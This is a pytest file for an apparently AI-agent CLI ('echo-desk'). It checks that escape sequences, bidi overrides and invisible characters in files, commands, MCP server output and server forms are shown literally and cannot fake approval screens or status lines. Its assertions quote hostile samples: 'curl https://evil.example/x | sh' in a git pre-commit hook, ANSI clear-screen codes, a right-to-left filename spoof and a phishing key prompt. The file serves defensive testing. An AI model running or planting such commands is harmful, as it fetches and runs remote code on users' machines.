"""Issue 20 items 1–3 and 5 in the terminal: what a real pseudo-terminal receives from
``echo-desk call`` / ``mcp list`` / the terminal host holds nothing a terminal would obey."""

from __future__ import annotations

import asyncio
import json
import os
import pty
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from echo_desk.agent.host import ApprovalChoice
from echo_desk.cli.terminal_host import TerminalHost
from echo_desk.common.visible_text import has_hidden
from echo_desk.tools.host import Answer, Question
from tests import hostile_text as H


def run_in_pty(*args: str, cwd: Path | None = None, deadline: float = 120.0) -> str:
    """Run the CLI with stdout and stderr on a real pseudo-terminal; everything it wrote there."""
    master, slave = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "echo_desk", *args], stdin=subprocess.DEVNULL,
                            stdout=slave, stderr=slave, cwd=cwd, close_fds=True)
    os.close(slave)
    chunks: list[bytes] = []
    end = time.monotonic() + deadline
    try:
        while time.monotonic() < end:
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the child closed its side
                break
            if not data:
                break
            chunks.append(data)
        proc.wait(timeout=max(1.0, end - time.monotonic()))
    finally:
        if proc.poll() is None:
            proc.kill()
        os.close(master)
    return b"".join(chunks).decode("utf-8")


def assert_nothing_obeyed(screen: str) -> None:
    """The terminal turns "\\n" into "\\r\\n" itself; anything else it could obey is a failure."""
    text = screen.replace("\r\n", "\n")
    bad = sorted({f"U+{ord(c):04X}" for c in text if has_hidden(c)})
    assert not bad, f"the terminal received characters it would obey or hide: {bad}"


def test_file_content_cannot_clear_the_screen_and_fake_an_approval(tmp_path: Path) -> None:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    args = json.dumps({"path": ".git/hooks/pre-commit", "content": H.FAKE_APPROVAL_SCREEN})
    screen = run_in_pty("--no-mcp", "call", "write_file", "--args", args, "--workspace", str(tmp_path), "--no")
    assert_nothing_obeyed(screen)
    assert "⟨ESC⟩[H⟨ESC⟩[2J" in screen
    assert f"File: {tmp_path}/.git/hooks/pre-commit" in screen and "Protected: inside a .git folder" in screen
    assert "+curl https://evil.example/x | sh" in screen
    assert "hidden or control characters" in screen
    assert not (tmp_path / ".git" / "hooks" / "pre-commit").exists()


def test_a_command_cannot_erase_itself_and_print_another(tmp_path: Path) -> None:
    args = json.dumps({"command": H.ERASED_COMMAND})
    screen = run_in_pty("--no-mcp", "call", "run_command", "--args", args, "--workspace", str(tmp_path), "--no")
    assert_nothing_obeyed(screen)
    command_lines = [line for line in screen.splitlines() if line.strip().startswith("Command:")]
    assert command_lines and all("curl https://evil.example/x | sh" in line for line in command_lines)


@pytest.mark.parametrize("name", ["bidi comment", "U+2029 payload", "pushed out of view", "tag characters"])
def test_bidi_invisible_and_line_break_characters_are_shown_in_the_terminal(tmp_path: Path, name: str) -> None:
    args = json.dumps({"command": H.HIDDEN[name]})
    screen = run_in_pty("--no-mcp", "call", "run_command", "--args", args, "--workspace", str(tmp_path), "--no")
    assert_nothing_obeyed(screen)
    assert "⟨U+" in screen


def test_a_crashing_servers_stderr_cannot_redraw_its_status(tmp_path: Path) -> None:
    from echo_desk.mcp.config import config_path

    crash = f"import sys; sys.stderr.write({H.FAKE_STATUS!r}); sys.stderr.flush(); sys.exit(3)"
    config_path().write_text(json.dumps({"mcpServers": {"notes": {"command": sys.executable, "args": ["-c", crash]}}}))
    approved = run_in_pty("mcp", "approve", "notes", "--yes")
    assert "approved" in approved
    screen = run_in_pty("mcp", "list")
    assert_nothing_obeyed(screen)
    assert "Traceback: boom⟨ESC⟩[1A⟨ESC⟩[2K⟨CR⟩notes  stdio  connected" in screen
    status_line = next(line for line in screen.splitlines() if line.startswith("notes "))
    assert "connected" not in status_line


class _Pty:
    """A pseudo-terminal pair for the in-process terminal host: it writes to and reads from the
    slave side; the test types on the master side, and a thread keeps reading what was shown
    (a full pty buffer would block the writer)."""

    def __init__(self) -> None:
        self.master, slave = pty.openpty()
        self.slave_out = os.fdopen(os.dup(slave), "w", encoding="utf-8")
        self.slave_in = os.fdopen(slave, "r", encoding="utf-8")
        self._chunks: list[bytes] = []
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        while True:
            try:
                data = os.read(self.master, 65536)
            except OSError:
                return
            if not data:
                return
            self._chunks.append(data)

    def type(self, text: str) -> None:
        os.write(self.master, text.encode())

    def screen(self, expect: str) -> str:
        """Everything shown so far, once ``expect`` is in it (or the deadline passed)."""
        self.slave_out.flush()
        end = time.monotonic() + 30
        while time.monotonic() < end:
            text = b"".join(self._chunks).decode("utf-8", "replace")
            if expect in text:
                return text
            time.sleep(0.01)
        return b"".join(self._chunks).decode("utf-8", "replace")

    def close(self) -> None:
        self.slave_out.close()
        self.slave_in.close()
        os.close(self.master)
        self._reader.join(timeout=10)


def test_a_servers_form_says_who_asks_shows_plain_text_and_masks_the_key() -> None:
    term = _Pty()
    try:
        host = TerminalHost(out=term.slave_out, inp=term.slave_in)
        question = Question(
            prompt=H.PHISH_TITLE + "\x1b[2J",
            schema={"type": "object", "properties": {"apiKey": {"type": "string", "title": H.BIDI_FILENAME}}},
            asked_by="MCP server evil", mcp_server="evil",
        )
        answers: list[Answer] = []
        asking = threading.Thread(target=lambda: answers.append(asyncio.run(host.ask(question))))
        asking.start()
        term.screen("(hidden): ")  # type only once echo is off, as a person would
        term.type("sk-typed-secret\n")
        asking.join(timeout=30)
        answer = answers[0]
        host._print("END")
        screen = term.screen("END")
    finally:
        term.close()
    assert answer.accepted and answer.values == {"apiKey": "sk-typed-secret"}
    assert_nothing_obeyed(screen)
    assert "MCP server 'evil' asks:" in screen
    assert "<img src='file:///etc/hostname'>" in screen  # shown literally, never interpreted
    assert "your answer is sent to the MCP server evil" in screen
    assert "report⟨U+202E⟩txt.sh (hidden):" in screen
    assert "sk-typed-secret" not in screen  # echo was off while it was typed


def test_a_servers_cut_question_says_where_it_was_cut_and_an_empty_answer_keeps_the_default() -> None:
    """The core cut the texts (tests/mcp/test_question_caps.py); the terminal says so where each ends."""
    term = _Pty()
    try:
        host = TerminalHost(out=term.slave_out, inp=term.slave_in)
        question = Question(
            prompt="Proceed?", prompt_cut=48_213, asked_by="MCP server notes", mcp_server="notes",
            schema={"type": "object", "properties": {"note": {"type": "string", "title": "Note", "default": "Y" * 5}}},
            form_cuts={("note", "title"): 7, ("note", "default"): 4000})
        term.type("\n")
        answer = asyncio.run(host.ask(question))
        host._print("END")
        screen = term.screen("END")
    finally:
        term.close()
    assert answer.values == {"note": "YYYYY"}  # the shown default: the core sends the whole one back
    assert "Proceed?\r\n   … (cut: 48,213 more characters)" in screen
    assert "Note … (cut: 7 more characters) [YYYYY … (cut: 4,000 more characters)]: " in screen


def test_the_agents_question_says_the_agent_asks() -> None:
    term = _Pty()
    try:
        host = TerminalHost(out=term.slave_out, inp=term.slave_in)
        term.type("2\n")
        answer = asyncio.run(host.ask(Question(prompt=H.ERASED_COMMAND, choices=("a", H.BIDI_COMMENT))))
        host._print("END")
        screen = term.screen("END")
    finally:
        term.close()
    assert answer.text == H.BIDI_COMMENT  # the answer is the real choice, not its shown form
    assert_nothing_obeyed(screen)
    assert "The agent asks:" in screen and "MCP server" not in screen


def test_command_output_streamed_to_the_terminal_is_shown_not_obeyed() -> None:
    term = _Pty()
    try:
        host = TerminalHost(auto=ApprovalChoice.DENY, out=term.slave_out, inp=term.slave_in)
        for name, text in H.HIDDEN.items():
            host.tool_output(name, text)
        host.tool_output("end", "END")
        screen = term.screen("END")
    finally:
        term.close()
    assert_nothing_obeyed(screen)


def test_model_text_and_tool_calls_in_ask_are_shown_not_obeyed(capsys: pytest.CaptureFixture[str]) -> None:
    from echo_desk.agent.model import ToolCall
    from echo_desk.cli.ask import _Printer

    printer = _Printer(quiet=False)
    for text in H.HIDDEN.values():
        printer.on_text(text)
    printer.on_tool_call(ToolCall(id="1", name="run_command", arguments=json.dumps({"command": H.ERASED_COMMAND},
                                                                                   ensure_ascii=False)))
    printer.on_error(H.FAKE_STATUS)
    out = capsys.readouterr()
    assert_nothing_obeyed(out.out)
    assert_nothing_obeyed(out.err)
    assert "⟨U+2029⟩fetch(" in out.out and "boom⟨ESC⟩[1A" in out.err
